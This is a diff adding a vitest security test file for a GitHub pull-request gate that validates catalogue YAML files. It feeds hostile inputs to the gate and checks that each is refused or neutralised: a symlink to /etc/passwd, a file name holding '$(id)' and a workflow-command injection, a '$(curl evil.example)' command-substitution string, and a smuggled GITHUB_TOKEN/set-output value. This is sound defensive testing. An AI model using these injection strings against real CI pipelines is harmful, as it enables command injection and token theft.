@@ -1,0 +1,95 @@
+import { afterEach, beforeEach, expect, test } from "vitest";
+
+import { planGate } from "../../scripts/github/plan/index.ts";
+import { actOnReports, validatePulls } from "../../scripts/github/session.ts";
+import { people } from "./fake/people.ts";
+import type { FakeGitHub } from "./fake/server.ts";
+import { baseFiles, open, session, startSetting, step } from "./fake/setting.ts";
+import type { FakeFile, FakePull } from "./fake/world.ts";
+
+// What an attacker can do to GitHub itself, played from there; what follows from the facts is in the scenarios.
+
+let fake: FakeGitHub;
+beforeEach(async () => {
+  fake = await startSetting();
+});
+afterEach(async () => {
+  await fake.close();
+  expect(fake.violations).toEqual([]);
+});
+
+const product = "catalogue/camden/products/open-play.yml";
+const live = baseFiles()[product]!.replace("stage: beta", "stage: live");
+
+async function verdict(changes: Record<string, FakeFile | string | null>, more: Partial<FakePull> = {}) {
+  open(fake, changes, more);
+  const event = { pull_request: { number: 12 } };
+  const { word } = await validatePulls(await session(fake, event), [12], false, "2026-06-01");
+  await actOnReports(await session(fake, event, { REPORT: word }), planGate, true);
+  return fake.world.checks[0]?.conclusion;
+}
+
+test.each<[string, Record<string, FakeFile>]>([
+  ["a symbolic link", { [product]: { mode: "120000", content: "../../../../etc/passwd" } }],
+  ["a submodule", { [product]: { mode: "160000", type: "commit" } }],
+  ["a submodule as an authority’s folder", { "catalogue/islington": { mode: "160000", type: "commit" } }],
+  ["a blob of 1 GB announced", { [product]: { content: "x", announced: 2 ** 30 } }],
+  ["a program of 1 GB announced", { [product]: { content: "x", announced: 2 ** 30, mode: "100755" } }],
+  ["a name in other case", { "catalogue/Camden/authority.yml": { content: live } }],
+  ["a folder in other case", { "CATALOGUE/camden/authority.yml": { content: live } }],
+  ["a name with a command in it", { "catalogue/camden/products/$(id)\n::error::.yml": { content: live } }],
+])("%s is refused, and never fetched", async (_, changes) => {
+  expect(await verdict(changes)).toBe("failure");
+  expect(fake.calls).not.toContain("git/get-blob");
+});
+
+test("a blob that turns out larger than it was announced is not trusted", async () => {
+  const announced = { [product]: { content: `${live}# ${"x".repeat(70_000)}`, announced: 100 } };
+  expect(await verdict(announced)).toBe("action_required");
+});
+
+test("101 and 3,001 files are not even listed", async () => {
+  expect(await verdict({ [product]: live }, { claimed: 101 })).toBe("action_required");
+  expect(fake.calls).not.toContain("pulls/list-files");
+  fake.world.checks = [];
+  expect(await verdict({ [product]: live }, { claimed: 3001 })).toBe("action_required");
+  expect(fake.calls).not.toContain("pulls/list-files");
+});
+
+test("hostile titles, branches and texts reach nothing that is written", async () => {
+  const evil = "$(curl evil.example)`id`\n::error::x @everyone <details>\u202e";
+  expect(await verdict({ [product]: live }, { title: evil, branch: evil, body: evil })).toBe("success");
+  const written = JSON.stringify([fake.world.comments, fake.world.checks]);
+  for (const part of ["evil.example", "::error::", "@everyone", "<details>", "\u202e"]) {
+    expect(written).not.toContain(part);
+  }
+});
+
+test("what is handed from job to job is one line of letters, digits, - and _, whatever was typed", async () => {
+  const evil = live.replace("stage: live", 'stage: "x\\nGITHUB_TOKEN=y\\n::set-output name=report::z"');
+  open(fake, { [product]: evil, "catalogue/camden/products/a\nb=c.yml": evil });
+  const validated = await step(fake, "node scripts/gate-validate.ts", { event: { pull_request: { number: 12 } } });
+  expect(Object.keys(validated.outputs)).toEqual(["report"]);
+  expect(validated.outputs["report"]).toMatch(/^[\w-]+$/);
+  expect(validated.out).toBe("");
+  expect(validated.error).toMatch(/^#12 examined: \d+ errors, \d+ reviews, \d+ hints\n$/);
+});
+
+test("a report about another pull request than the event’s is not published", async () => {
+  open(fake, { [product]: live });
+  open(fake, { [product]: live.replace("Lets", "Let’s") }, { number: 13, author: people.mallory });
+  const other = await validatePulls(await session(fake), [13], false, "2026-06-01");
+  const event = { pull_request: { number: 12 } };
+  const reported = await step(fake, "node scripts/gate-report.ts --apply", { event, env: { REPORT: other.word } });
+  expect(reported).toMatchObject({ code: 0, out: "" });
+  expect(fake.world.checks).toEqual([]);
+});
+
+test("somebody else’s comment with our marker is left alone, labels set by an outsider are taken away", async () => {
+  const body = "<!-- catalogue-gate -->\nAll is well";
+  fake.world.comments.push({ id: 7, issue: 12, user: people.mallory, body, created: fake.world.now });
+  await verdict({ [product]: live }, { author: people.mallory, labels: ["catalogue: ready", "help wanted"] });
+  expect(fake.world.comments.map(({ user }) => user.login)).toEqual(["mallory", "github-actions[bot]"]);
+  expect(fake.world.comments[0]).toMatchObject({ body });
+  expect(fake.world.pulls.get(12)!.labels).toEqual(["help wanted", "catalogue: needs the authority"]);
+});
